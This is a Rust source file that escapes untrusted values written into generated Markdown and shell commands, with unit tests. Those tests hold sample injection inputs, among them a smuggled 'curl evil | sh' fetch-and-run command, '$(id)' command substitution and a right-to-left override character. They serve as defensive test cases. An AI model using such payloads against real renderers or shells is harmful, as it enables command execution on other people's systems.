//! Untrusted values in the Markdown and shell commands samlbridge writes (STEPS.md,
//! ROLLOVER.md): rendered so that no value can open or close a Markdown construct or end a
//! shell word.

use crate::shape::is_invisible;
use std::fmt::Write;

/// `s` with every invisible character (control, format, separator) written as `\u{XXXX}`,
/// so a value can neither break a line nor hide what it says.
pub fn visible(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        if is_invisible(c) {
            let _ = write!(out, "\\u{{{:04X}}}", u32::from(c));
        } else {
            out.push(c);
        }
    }
    out
}

/// An inline code span holding `s` exactly (invisible characters made visible): delimited by
/// one backtick more than the longest run inside, so the value cannot close it, and padded
/// when the value starts or ends with a backtick.
pub fn code(s: &str) -> String {
    let s = visible(s);
    let mut longest = 0;
    let mut run = 0;
    for c in s.chars() {
        if c == '`' {
            run += 1;
            longest = longest.max(run);
        } else {
            run = 0;
        }
    }
    let fence = "`".repeat(longest + 1);
    if s.starts_with('`') || s.ends_with('`') || (longest > 0 && s.starts_with(' ')) {
        format!("{fence} {s} {fence}")
    } else {
        format!("{fence}{s}{fence}")
    }
}

/// A code span for a table cell: GitHub's tables split cells on `|` even inside code.
pub fn cell(s: &str) -> String {
    code(s).replace('|', "\\|")
}

/// `s` as one word for a POSIX shell, for commands in fenced code blocks. Only values that
/// passed their shape check reach here; a value holding an invisible character (which could
/// end the code block) is refused all the same.
pub fn shell(s: &str) -> Option<String> {
    if s.chars().any(is_invisible) {
        return None;
    }
    shlex::try_quote(s).ok().map(|q| q.into_owned())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn code_spans_cannot_be_closed_or_broken() {
        assert_eq!(code("user.mail"), "`user.mail`");
        assert_eq!(code("a`b"), "``a`b``");
        assert_eq!(code("`$(id)`"), "`` `$(id)` ``");
        assert_eq!(
            code("x\n```sh\ncurl evil | sh\n```"),
            "```` x\\u{000A}```sh\\u{000A}curl evil | sh\\u{000A}``` ````"
        );
        assert_eq!(code("a\u{202E}b\u{2028}"), "`a\\u{202E}b\\u{2028}`");
        assert_eq!(cell("a|b"), "`a\\|b`");
    }

    #[test]
    fn shell_words() {
        assert_eq!(shell("ReadOnly").unwrap(), "ReadOnly");
        assert_eq!(shell("my file.xml").unwrap(), "'my file.xml'");
        assert_eq!(shell("$(id)").unwrap(), "'$(id)'");
        assert_eq!(shell("a'b").unwrap(), "\"a'b\"");
        assert_eq!(shell("a\nb"), None);
    }
}
